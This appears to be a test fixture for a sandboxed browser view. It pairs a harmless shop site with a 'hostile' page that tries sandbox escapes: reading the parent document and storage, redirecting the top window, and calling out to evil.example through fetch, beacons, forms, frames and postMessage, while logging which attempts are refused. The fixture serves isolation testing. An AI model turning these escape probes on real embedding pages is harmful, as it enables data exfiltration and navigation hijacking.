/* Pages that the browser view is tried with: a shop, and one that means harm. */

/** What the page is made of: a link, a form, resources of each kind, and what a script asks for. */
export const SHOP = {
  "index.html": `<!doctype html><html><head><title>Shop</title><base href="/">
    <link rel="stylesheet" href="site.css"><script src="/app.js"></script></head>
    <body><h1>Shop</h1><img id="logo" src="logo.svg" alt="logo"><p id="said"></p>
    <a href="second.html?from=link#end">Second</a>
    <form action="/second.html"><input name="q" value="a&b"><button>Search</button></form>
    <script>document.getElementById("said").textContent = "inline after " + typeof app;</script>
    </body></html>`,
  "site.css": `@import "more.css"; h1 { color: rgb(1, 2, 3); background: url(logo.svg) }`,
  "more.css": `p { color: rgb(4, 5, 6) }`,
  "app.js": `var app = async () => {
    const text = await (await fetch("data.json")).json();
    const x = new XMLHttpRequest(); x.open("GET", "/data.json");
    x.onload = () => { document.body.dataset.asked = text.hello + JSON.parse(x.responseText).hello; };
    x.send();
    const late = new Image(); late.onload = () => (document.body.dataset.late = late.naturalWidth);
    late.src = "/logo.svg";
    const script = document.createElement("script"); script.src = "late.js"; document.head.append(script);
    localStorage.setItem("a", "b"); document.cookie = "c=d";
    history.pushState({}, "", "/index.html?pushed");
  };
  addEventListener("load", app);`,
  "late.js": `document.body.dataset.script = "ran";`,
  "data.json": `{"hello": "world"}`,
  "logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="31" height="17"><rect width="31" height="17"/></svg>`,
  "second.html": `<!doctype html><title>Second</title><h1>The second page</h1><div style="height:3000px"></div><p id="end">The end</p>`,
};

/** A page that tries what a stranger's page may try; it writes down what it got. */
export const HOSTILE = `<!doctype html><title>hostile</title><h1>hostile</h1><script>
const got = {};
const attempt = async (name, f) => { try { got[name] = String(await f()); } catch (e) { got[name] = "refused"; } };
const late = (p) => Promise.race([p, new Promise((_, no) => setTimeout(no, 1500))]);
(async () => {
  await attempt("origin", () => self.origin);
  await attempt("parent document", () => parent.document.title);
  await attempt("parent storage", () => parent.localStorage.length);
  await attempt("parent cluster", () => parent.tabernetes);
  await attempt("top address", () => { top.location.href = "http://evil.example/top"; return "went"; });
  await attempt("popup", () => open.call(window, "http://evil.example/popup") ?? "refused");
  await attempt("network", () => fetch("http://evil.example/fetch"));
  await attempt("hub", () => fetch(HOST + "/index.html"));
  const clean = document.createElement("iframe"); document.body.append(clean);
  const fresh = clean.contentWindow;
  await attempt("fresh fetch", () => late(fresh.fetch("http://evil.example/fresh")));
  await attempt("fresh fetch of the page", () => late(fresh.fetch(HOST + "/index.html")));
  await attempt("fresh request", () => late(new Promise((yes, no) => { const x = new fresh.XMLHttpRequest(); x.onload = () => yes(x.status); x.onerror = no; x.open("GET", HOST + "/index.html"); x.send(); })));
  await attempt("socket", () => late(new Promise((yes, no) => { const s = new fresh.WebSocket(HOST.replace("http", "ws")); s.onopen = () => yes("open"); s.onerror = no; })));
  await attempt("beacon", () => navigator.sendBeacon("http://evil.example/beacon") ? "sent?" : "refused");
  await attempt("storage", () => fresh.localStorage.length);
  await attempt("database", () => late(new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = () => yes("open"); r.onerror = no; })));
  for (const [name, html] of Object.entries({
    "image": "<img src='http://evil.example/image.png'>",
    "style": "<link rel=stylesheet href='http://evil.example/style.css'>",
    "frame": "<iframe src='http://evil.example/frame'></iframe>",
    "page in a frame": "<iframe src='" + HOST + "/index.html'></iframe>",
    "object": "<object data='http://evil.example/object'></object>",
    "prefetch": "<link rel=prefetch href='http://evil.example/prefetch'>",
  })) { const d = document.createElement("div"); d.innerHTML = html; document.body.append(d); }
  const form = document.createElement("form"); form.action = "http://evil.example/form"; document.body.append(form);
  await attempt("form", () => { fresh.HTMLFormElement.prototype.submit.call(form); return "sent"; });
  parent.postMessage({ type: "go", url: "http://evil.example/" }, "*");
  parent.postMessage("tabernetes-frame", "*");
  document.body.dataset.done = JSON.stringify(got);
})();
</script>`;
